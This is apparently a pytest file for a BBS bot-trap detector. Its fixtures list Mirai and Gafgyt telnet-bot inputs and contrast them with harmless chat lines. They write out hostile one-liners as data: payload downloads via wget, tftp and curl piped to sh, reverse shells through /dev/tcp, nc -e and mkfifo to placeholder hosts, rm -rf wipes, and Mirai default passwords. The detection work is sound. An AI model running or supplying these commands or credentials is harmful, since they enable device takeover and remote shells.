"""Bot traps: the rules file, the default rules, and never catching people."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from bbs.guard.traps import (
    MAX_LINE,
    SIGNALS,
    BotScore,
    Detection,
    RulesError,
    TrapRules,
)

DEFAULT = TrapRules.load()

# Every default rule, with lines that must hit it (and no earlier rule).
EXAMPLES: dict[str, list[str]] = {
    "login-root": ["root", "ROOT", " Root\r\n", "root\x00"],
    "login-admin": ["admin", "Admin"],
    "login-admin1": ["admin1"],
    "login-administrator": ["Administrator"],
    "login-support": ["support"],
    "login-user": ["user"],
    "login-default": ["default"],
    "login-service": ["service"],
    "login-supervisor": ["supervisor"],
    "login-tech": ["tech"],
    "login-mother": ["mother"],
    "login-daemon": ["daemon"],
    "login-telnet": ["telnet"],
    "login-ubnt": ["ubnt"],
    "login-666666": ["666666"],
    "login-888888": ["888888"],
    "login-telecomadmin": ["telecomadmin"],
    "login-e8telnet": ["e8telnet"],
    "login-e8ehome": ["e8ehome"],
    "mirai-token": [
        "/bin/busybox ECCHI",
        "/bin/busybox MIRAI",
        "busybox OKIRU",
        "enable; /bin/busybox SATORI",
        "cat /proc/mounts; /bin/busybox ECCHI",
        "/bin/busybox MASUTA; echo done",
    ],
    "mirai-dropper": [
        "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper",
        ">dvrHelper",
        "./dvrHelper telnet.x86",
        "cd /tmp && ./dvrHelper",
        "/bin/busybox wget http://1.2.3.4/bins/mirai.arm -O - > dvrHelper",
        "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon",
        ">/var/.nippon && cd /var/",
    ],
    "mirai-password": ["xc3511", "vizxv", "7ujMko0admin", "xmhdipc", "Zte521", "zlxx."],
    "gafgyt-dropper": [
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
        "wget http://185.10.68.1/bins.sh; chmod 777 bins.sh; sh bins.sh; "
        "tftp 185.10.68.1 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
        "rm -rf bins.sh tftp1.sh; rm -rf *",
        "wget http://1.2.3.4/gtop.sh -O- | sh",
        "tftp 1.2.3.4 -c get tftp1.sh",
        "/bin/busybox wget http://1.2.3.4/bins.sh; sh bins.sh",
    ],
    "busybox-probe": ["/bin/busybox XYZZY", "sh; /bin/busybox QWERT"],
    "busybox-path": [
        "/bin/busybox",
        "/bin/busybox ps",
        "/bin/busybox cat /proc/mounts",
        "/bin/busybox ECHO-x",
    ],
    "busybox-applet": [
        "busybox",
        "busybox ps",
        "busybox cat /proc/cpuinfo",
        "busybox wget -O- http://1.2.3.4/x",
        "busybox echo -e '\\x41'",
        "system; busybox",
    ],
    "cd-chain": ["cd /tmp || cd /var/run", "cd /; ls", "cd /dev/shm && ls -la"],
    "wget-url": [
        "wget http://1.2.3.4/x.arm7",
        "wget http://1.2.3.4:8080/a -O /tmp/a",
        "wget -q -O - http://1.2.3.4/x | sh",
        "wget 1.2.3.4/x",
        "enable; wget http://1.2.3.4/x; chmod 777 x",
    ],
    "curl-url": [
        "curl http://1.2.3.4/x",
        "curl -O http://1.2.3.4/x.mips; ./x.mips",
        "curl -s https://1.2.3.4/x -o /tmp/x",
    ],
    "tftp-get": [
        "tftp -g -r mips 1.2.3.4",
        "tftp -g -l dvr -r mips 1.2.3.4",
        "tftp -r x.arm -g 1.2.3.4:69",
        "tftp 1.2.3.4 -c get x.arm",
    ],
    "ftpget": [
        "ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 mips mips",
        "busybox ftpget 1.2.3.4 mips",
    ],
    "chmod-exec": [
        "chmod 777 x.arm",
        "chmod 777 *",
        "chmod +x .s; ./.s",
        "chmod 777 mips; ./mips",
    ],
    "rm-tmp": ["rm -rf /tmp/*", "rm -rf /tmp/* /var/tmp/*", "rm -f /var/run/x; ls"],
    "hidden-file": [
        ">/dev/.x && cd /dev/",
        ">> /tmp/.hidden",
        "echo ok > /dev/.x",
        "cat .s > /var/.s",
    ],
    "cat-probe": ["cat /proc/mounts", "cat /proc/cpuinfo", "cat /bin/echo", "cat /proc/mounts; echo x"],
    "echo-hex": [
        "echo -ne '\\x7f\\x45\\x4c\\x46' > .s",
        "echo -e '\\x41\\x4b'",
        'echo -e "\\x61\\x62" >> .x; sh .x',
    ],
    "dev-tcp": [
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | sh",
        "sh -i >& /dev/udp/1.2.3.4/53 0>&1",
    ],
    "nc-exec": [
        "nc -e /bin/sh 1.2.3.4 4444",
        "nc 1.2.3.4 4444 -e /bin/sh",
        "busybox nc evil.example 80 -e sh",
    ],
    "fifo-shell": ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f"],
    "shell-sh": ["sh", "SH "],
    "shell-enable": ["enable"],
    "shell-system": ["system"],
    "shell-shell": ["shell"],
    "shell-linuxshell": ["linuxshell"],
    "shell-ping": ["ping ; sh", "ping;sh"],
}

# What people say in a chat lobby, mentioning every bot word there is.
CHAT = [
    "I ran sh in my root shell",
    "hi all",
    "who here has root on a router?",
    "root",  # only as a login answer; judged with match_line below
    "my nick used to be root lol",
    "sh is just a link to busybox on my box",
    "does anyone use busybox?",
    "busybox is great for embedded stuff",
    "busybox rocks",
    "busybox wget is broken on my router",
    "busybox ls works fine though",
    "the mirai bots typed /bin/busybox ECCHI at me yesterday",
    "I saw ECCHI and MIRAI tokens in the logs",
    "ecchi anime is not my thing",
    "dvrHelper is the name mirai uses for its binary",
    "have you seen .nippon files anywhere?",
    "> quoting: dvrHelper was in there",
    "I use wget all the time",
    "wget http://example.com/file works for me",
    "just wget it",
    "wget -O- is handy",
    "curl http is fine but use https",
    "curl -s https://example.com | less is my favourite trick, honestly",
    "wget https://example.com/install.sh",
    "curl https://example.com",
    "how do I enable colours?",
    "enable echo in your client",
    "please enable utf-8",
    "the system is slow today",
    "system restore fixed it",
    "shell scripts are fun",
    "shell out to the command",
    "sh and bash differ a bit",
    "cat /proc/cpuinfo shows four cores",
    "my cat is sitting on the keyboard",
    "echo chamber in here",
    "echo -e '\\x41' prints an A",
    "chmod 777 everything, what could go wrong",
    "chmod 777 everything",
    "never chmod 777 your home",
    "rm -rf / lol",
    "rm -rf /",
    "sudo rm -rf / --no-preserve-root",
    "cd /tmp and look around",
    "cd / is the root",
    "I'm at the tftp -g step and it fails",
    "tftp -g is broken",
    "ftpget is a busybox applet",
    "nc -e /bin/sh is dangerous",
    "use nc to test the port",
    "nc localhost 2323",
    "you can use bash -i with /dev/tcp in bash",
    "writing to >/dev/null is fine",
    "mkfifo is a neat trick",
    "ping me later",
    "ping; sh is what the bots send",
    "the admin is away",
    "support for IPv6 would be nice",
    "user error, sorry",
    "default settings are ok",
    "tech support said reboot",
    "my mother says hi",
    "telnet is old but fun",
    "service was interrupted",
    "xc3511 is a mirai password",
    "enable; then system; then shell; then sh, that's the mirai dance",
    "guest",
    "what does /bin/busybox mean",
    "linuxshell? never heard of it",
    "666666 is a big number",
    ":) :) :)",
    "",
    "   ",
]


class TestDefaultRules:
    def test_every_rule_has_an_example(self) -> None:
        assert sorted(EXAMPLES) == sorted(rule.name for rule in DEFAULT.rules)

    @pytest.mark.parametrize(
        "rule, line",
        [(rule, line) for rule, lines in EXAMPLES.items() for line in lines],
    )
    def test_example_hits_its_rule(self, rule: str, line: str) -> None:
        detection = DEFAULT.match_login(line)
        assert detection is not None and detection.rule == rule
        if not rule.startswith("login-"):
            assert DEFAULT.match_line(line) == detection

    def test_login_rules_do_not_apply_in_chat(self) -> None:
        for line in EXAMPLES["login-root"] + EXAMPLES["login-admin"]:
            assert DEFAULT.match_line(line) is None

    @pytest.mark.parametrize("line", [line for line in CHAT if line != "root"])
    def test_chat_is_never_caught(self, line: str) -> None:
        assert DEFAULT.match_line(line) is None
        assert DEFAULT.match_login(line) is None

    def test_guest_is_not_a_bot_word(self) -> None:
        assert DEFAULT.match_login("guest") is None
        assert DEFAULT.match_login("") is None

    def test_families(self) -> None:
        def family(line: str) -> str:
            detection = DEFAULT.match_line(line)
            assert detection is not None
            return detection.family

        assert family("/bin/busybox ECCHI") == "mirai"
        assert family("/bin/busybox ABCD") == "mirai"
        assert family(">dvrHelper") == "mirai"
        assert family("cd /tmp; wget http://1.2.3.4/bins.sh; sh bins.sh") == "gafgyt"
        assert family("wget http://1.2.3.4/x") == "generic"

    def test_detection_value(self) -> None:
        assert DEFAULT.match_login("root") == Detection("login-root", "generic", 100)

    def test_over_long_lines_are_not_judged(self) -> None:
        assert DEFAULT.match_line("cd /; " + "x" * MAX_LINE) is None
        assert DEFAULT.match_line("cd /; " + "x" * (MAX_LINE - 6)) is not None

    def test_hostile_lines_take_linear_time(self) -> None:
        # Run apart, so that a pattern that backtracks exponentially fails the
        # test instead of hanging it.
        root = Path(__file__).resolve().parents[2]
        env = dict(os.environ, PYTHONPATH=str(root))
        try:
            result = subprocess.run(
                [sys.executable, "-c", HOSTILE],
                capture_output=True, text=True, timeout=60, env=env, cwd=root,
            )
        except subprocess.TimeoutExpired:
            pytest.fail("a default rule backtracks catastrophically")
        assert result.returncode == 0, result.stderr
        worst, rule_and_line = result.stdout.split(" ", 1)
        # Linear patterns need a millisecond; a quadratic one needs far more.
        assert float(worst) < 0.005, rule_and_line


# Lines built from the words the default rules look for, repeated up to the
# longest line that is judged, tried on every regular expression alone (so
# that no earlier rule hides a later one); prints the slowest.
HOSTILE = """
import random, time
from bbs.guard.traps import MAX_LINE, TrapRules
rules = [rule for rule in TrapRules.load().rules if rule.regex is not None]
heads = ["", "/bin/busybox ", "busybox ", "wget ", "curl ", "tftp ", "ftpget ",
         "nc ", "chmod 777 ", "rm -rf /tmp/", "cat ", "echo -e '", "cd /",
         "mkfifo /", "sh ", "exec ", ">", "a "]
words = ["-g", "-e", "-O", "-c get", "x", "1.2.3.4", "1.2.3.4:69", "/x", "x.sh",
         ".x", "\\x41", "'", ">", ">&", "<", "/dev/tcp/", "dvrHelper", ".nippon",
         ";", "&&", "|", "sh", "-", "..", "ECCHI", "a.b.c", "-e sh",
         "http://1.2.3.4/x", "cd /", "wget", "/bin/busybox"]
commands = ["wget", "curl", "tftp", "ftpget", "nc", "chmod 777", "rm -rf", "cat",
            "echo -e", "cd", "busybox", "/bin/busybox", "mkfifo", "exec", "sh"]
units = [word + sep for word in words for sep in (" ", ";")]
units += [f"{command} {word}{sep}" for command in commands for word in words
          for sep in (" ", ";")]
rng = random.Random(7)
units += [" ".join(rng.choice(words) for _ in range(4)) + " " for _ in range(40)]
# Endings that satisfy the look-aheads and then fail: the worst case.
endings = [" !", " -g -e /bin/sh 1.2.3.4 x.sh dvrHelper !"]
def timed(rule, line):
    start = time.perf_counter()
    rule.regex.fullmatch(line)
    return time.perf_counter() - start
slowest = []
for head in heads:
    for unit in units[::25] if head else units:
        for ending in endings:
            line = (head + unit * MAX_LINE)[: MAX_LINE - len(ending)] + ending
            slowest += [(timed(rule, line), rule, line) for rule in rules]
            slowest = sorted(slowest, key=lambda item: item[0])[-5:]
# Time the slowest again, to tell a slow pattern from a busy machine.
took, name, line = max(
    (min(timed(rule, line) for _ in range(3)), rule.name, line)
    for _, rule, line in slowest
)
print(took, name, repr(line[:60]))
"""


RULES = """\
# a comment
   # an indented comment

root-rule   login generic 100 root
busy        any   mirai   90  re:/bin/busybox [A-Z]{3,}
spaced      any   generic 50  cat   /proc/mounts
hash        any   generic 10  re:echo #\\d+
late-root   login other   100 root
"""


class TestRulesFile:
    def test_parse(self) -> None:
        rules = TrapRules.parse(RULES)
        assert [r.name for r in rules.rules] == ["root-rule", "busy", "spaced", "hash", "late-root"]
        assert rules.rules[1].line == 5
        assert rules.match_login("ROOT") == Detection("root-rule", "generic", 100)
        assert rules.match_line("/bin/busybox ABC") == Detection("busy", "mirai", 90)
        # A regular expression is case-sensitive and must match the whole line.
        assert rules.match_line("/bin/busybox abc") is None
        assert rules.match_line("x /bin/busybox ABC") is None
        assert rules.match_line("/bin/busybox ABC x") is None
        # A literal ignores case and runs of blanks.
        assert rules.match_line("CAT /proc/mounts") == Detection("spaced", "generic", 50)
        assert rules.match_line("cat\t /proc/mounts ") is not None
        assert rules.match_line("echo #12") == Detection("hash", "generic", 10)

    def test_first_rule_in_file_order_wins(self) -> None:
        rules = TrapRules.parse(
            "a any x 1 re:/bin/\\w+\n"
            "b any y 2 /bin/sh\n"
            "c any z 3 /bin/ls\n"
        )
        assert rules.match_line("/bin/sh") == Detection("a", "x", 1)
        rules = TrapRules.parse(
            "b any y 2 /bin/sh\n"
            "a any x 1 re:/bin/\\w+\n"
        )
        assert rules.match_line("/bin/sh") == Detection("b", "y", 2)
        assert rules.match_line("/bin/ls") == Detection("a", "x", 1)

    def test_any_rules_apply_at_login(self) -> None:
        rules = TrapRules.parse(RULES)
        assert rules.match_login("/bin/busybox ABC") is not None
        assert rules.match_line("root") is None

    def test_load_path(self, tmp_path: Path) -> None:
        path = tmp_path / "my.rules"
        path.write_text(RULES, encoding="utf-8")
        assert len(TrapRules.load(path)) == 5
        assert len(TrapRules.load(str(path))) == 5

    @pytest.mark.parametrize(
        "text, line, message",
        [
            ("x login generic 100\n", 1, "five columns"),
            ("# c\n\nx where generic 100 root\n", 3, "where must be 'login' or 'any'"),
            ("x login generic 0 root\n", 1, "score must be a whole number from 1 to 100"),
            ("x login generic 101 root\n", 1, "score"),
            ("x login generic high root\n", 1, "score"),
            ("x login generic -5 root\n", 1, "score"),
            ("x! login generic 100 root\n", 1, "bad rule name"),
            ("x login gen/eric 100 root\n", 1, "bad family"),
            ("x any generic 100 re:(unclosed\n", 1, "bad regular expression"),
            ("x any generic 100 re:a*\n", 1, "matches an empty line"),
            ("x any generic 100 re:\n", 1, "matches an empty line"),
            ("x login g 100 root\n\ny login g 100 admin\nx any g 1 sh\n", 4,
             "'x' is already defined on line 1"),
        ],
    )
    def test_errors(self, text: str, line: int, message: str, tmp_path: Path) -> None:
        with pytest.raises(RulesError) as info:
            TrapRules.parse(text)
        assert info.value.line == line
        assert message in info.value.message
        path = tmp_path / "bad.rules"
        path.write_text(text, encoding="utf-8")
        with pytest.raises(RulesError) as info:
            TrapRules.load(path)
        assert str(info.value).startswith(f"{path}, line {line}: ")

    def test_not_utf8(self, tmp_path: Path) -> None:
        path = tmp_path / "bad.rules"
        path.write_bytes(b"a login g 100 root\nb login g 100 r\xffot\n")
        with pytest.raises(RulesError) as info:
            TrapRules.load(path)
        assert info.value.line == 2
        assert "UTF-8" in str(info.value)

    def test_missing_file(self, tmp_path: Path) -> None:
        with pytest.raises(RulesError, match="cannot read the file"):
            TrapRules.load(tmp_path / "missing.rules")

    def test_empty_file_matches_nothing(self) -> None:
        rules = TrapRules.parse("# nothing\n")
        assert len(rules) == 0
        assert rules.match_login("root") is None


class TestBotScore:
    def test_signals_add_up_once_each(self) -> None:
        score = BotScore()
        assert score.score == 0
        assert score.add_signal("no-telnet-reply") == SIGNALS["no-telnet-reply"].weight
        assert score.add_signal("no-telnet-reply") == SIGNALS["no-telnet-reply"].weight
        total = score.add_signal("instant-line")
        assert total == SIGNALS["no-telnet-reply"].weight + SIGNALS["instant-line"].weight
        assert score.signals == {"no-telnet-reply", "instant-line"}

    def test_family_guess(self) -> None:
        score = BotScore()
        score.add_signal("foreign-protocol")
        assert score.family == "unknown"
        score.add_signal("mirai-negotiation")
        assert score.family == "mirai"

    def test_every_signal_is_documented(self) -> None:
        for name, signal in SIGNALS.items():
            assert signal.weight > 0 and signal.why, name
            BotScore().add_signal(name)

    def test_unknown_signal(self) -> None:
        with pytest.raises(ValueError, match="unknown bot signal 'typo'"):
            BotScore().add_signal("typo")
